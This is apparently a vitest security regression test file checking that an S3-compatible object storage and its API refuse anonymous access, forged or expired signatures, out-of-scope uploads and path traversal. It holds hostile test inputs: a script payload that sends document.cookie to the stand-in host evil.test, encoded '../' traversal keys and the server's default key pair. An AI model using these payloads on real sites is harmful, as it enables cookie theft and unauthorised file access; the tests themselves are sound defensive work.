import { existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { DeleteObjectCommand, GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UPLOAD_TASK_ID } from '../seed/uploadTasks';
import { startTestApi } from '../testing/harness';
import type { TestApi } from '../testing/harness';
import { startTestStorage } from '../testing/storage';
import { clientOf, uploadKeysFor } from '../testing/upload';
import type { ObjectStorage } from './objectStorage';
import { presignGet } from './sigV4';

const HTML = '<script>fetch("//evil.test/?" + document.cookie)</script>';

/** Issue 36, finding 1 and 4: the attacker's requests to the storage, each refused now. */
describe('the object storage checks who writes and reads', () => {
  let storage: ObjectStorage;
  let t: TestApi;
  let bucketUrl: string;
  const stored = 'upload/20261122/stored.stl';
  beforeAll(async () => {
    storage = await startTestStorage();
    t = await startTestApi({ storage });
    bucketUrl = `${storage.endpoint}/${storage.bucket}`;
    await storage.putObject(stored, {
      bytes: Buffer.from('solid kept'),
      contentType: 'model/stl',
      originalName: 'kept.stl',
    });
  });
  afterAll(async () => {
    await t.close();
    await storage.close();
  });

  it('refuses an anonymous PUT, GET, LIST and DELETE', async () => {
    const put = await fetch(`${bucketUrl}/a.html`, {
      method: 'PUT',
      headers: { 'Content-Type': 'text/html' },
      body: HTML,
    });
    expect(put.status).toBe(403);
    expect(await put.text()).toContain('<Code>AccessDenied</Code>');
    expect((await fetch(`${bucketUrl}/${stored}`)).status).toBe(403);
    expect((await fetch(`${bucketUrl}?list-type=2`)).status).toBe(403);
    expect((await fetch(storage.endpoint)).status).toBe(403);
    expect((await fetch(`${bucketUrl}/${stored}`, { method: 'DELETE' })).status).toBe(403);
    expect((await storage.getObject(stored))?.bytes.toString()).toBe('solid kept');
    expect(await storage.getObject('a.html')).toBeUndefined();
  });

  it("refuses s3rver's built-in key pair and a forged signature", async () => {
    const s3rverKey = new S3Client({
      endpoint: storage.endpoint,
      region: storage.region,
      forcePathStyle: true,
      maxAttempts: 1,
      credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
    });
    await expect(
      s3rverKey.send(new ListObjectsV2Command({ Bucket: storage.bucket })),
    ).rejects.toMatchObject({ $metadata: { httpStatusCode: 403 } });
    s3rverKey.destroy();
    const signed = storage.presignedUrl(stored, 60);
    expect((await fetch(signed)).status).toBe(200);
    expect((await fetch(signed.replace(/.$/, (c) => (c === '0' ? '1' : '0')))).status).toBe(403);
    expect((await fetch(signed.replace('stored.stl', 'other.stl'))).status).toBe(403);
  });

  it('lets upload keys write their one object and nothing else', async () => {
    const { access_token: token } = await t.login('designer', 'Designer1');
    const { keys } = await uploadKeysFor(t, token, UPLOAD_TASK_ID);
    const client = clientOf(keys);
    const statusOf = (sending: Promise<unknown>) =>
      sending.then(
        () => 200,
        (error: { $metadata?: { httpStatusCode?: number } }) => error.$metadata?.httpStatusCode,
      );
    const Bucket = keys.bucket;
    const own = `${keys.keyPrefix}.stl`;
    expect(
      await statusOf(client.send(new PutObjectCommand({ Bucket, Key: own, Body: 'solid mine' }))),
    ).toBe(200);
    // Another user's object, a key of their own choosing, reads, lists and deletes: refused.
    expect(
      await statusOf(client.send(new PutObjectCommand({ Bucket, Key: stored, Body: 'x' }))),
    ).toBe(403);
    expect(
      await statusOf(client.send(new PutObjectCommand({ Bucket, Key: 'a.html', Body: HTML }))),
    ).toBe(403);
    expect(await statusOf(client.send(new GetObjectCommand({ Bucket, Key: own })))).toBe(403);
    expect(await statusOf(client.send(new ListObjectsV2Command({ Bucket })))).toBe(403);
    expect(await statusOf(client.send(new DeleteObjectCommand({ Bucket, Key: own })))).toBe(403);
    expect(await statusOf(client.send(new DeleteObjectCommand({ Bucket, Key: stored })))).toBe(403);
    client.destroy();
    expect((await storage.getObject(own))?.bytes.toString()).toBe('solid mine');
    expect((await storage.getObject(stored))?.bytes.toString()).toBe('solid kept');
  });

  it('refuses upload keys past their lifetime', async () => {
    const keyStem = 'upload/20261122/short';
    const issued = storage.issueUploadKeys(keyStem, 50);
    const client = new S3Client({
      endpoint: storage.endpoint,
      region: storage.region,
      forcePathStyle: true,
      maxAttempts: 1,
      credentials: issued,
    });
    await new Promise((resolve) => setTimeout(resolve, 100));
    const put = client.send(
      new PutObjectCommand({ Bucket: storage.bucket, Key: `${keyStem}.stl`, Body: 'late' }),
    );
    await expect(put).rejects.toMatchObject({ $metadata: { httpStatusCode: 403 } });
    client.destroy();
    expect(await storage.getObject(`${keyStem}.stl`)).toBeUndefined();
  });

  it('serves every object as a download of a fixed type', async () => {
    await storage.putObject('upload/20261122/page.html', {
      bytes: Buffer.from(HTML),
      contentType: 'text/html',
      originalName: 'invoice.pdf',
    });
    const page = await fetch(storage.presignedUrl('upload/20261122/page.html', 60));
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toBe('application/octet-stream');
    expect(page.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it("answers a size asked by HEAD on the API's object route, with a URL signed for HEAD only", async () => {
    const head = await fetch(`${t.url}/api/blade-resource/oss/object/${stored}`, {
      method: 'HEAD',
    });
    expect(head.status).toBe(200);
    expect(head.headers.get('content-length')).toBe(String('solid kept'.length));
    // The same signature does not read the bytes.
    expect((await fetch(head.url)).status).toBe(403);
  });

  it('refuses a key that climbs out of the storage folder, in the storage and in the API', async () => {
    const escape = `tmp${Date.now()}`;
    const traversal = `..%2f..%2f..%2f${escape}`;
    // Even signed with the server's own key (the worst case): refused before s3rver sees it.
    const put = await fetch(`${bucketUrl}/${traversal}`, { method: 'PUT', body: 'x' });
    expect(put.status).toBe(400);
    const signed = presignGet({
      endpoint: storage.endpoint,
      path: `/${storage.bucket}/${traversal}`,
      region: storage.region,
      accessKeyId: 'S3RVER',
      secretAccessKey: 'S3RVER',
      expiresInSeconds: 60,
    });
    expect((await fetch(signed)).status).toBe(400);
    expect((await fetch(`${bucketUrl}/a%5c..%5cb`)).status).toBe(400);
    const api = await fetch(`${t.url}/api/blade-resource/oss/object/${traversal}`);
    expect(api.status).toBe(400);
    expect(await api.json()).toMatchObject({ code: 400, success: false });
    const dir = dirname(dirname(dirname(t.dir)));
    expect(existsSync(join(dir, escape))).toBe(false);
  });
});
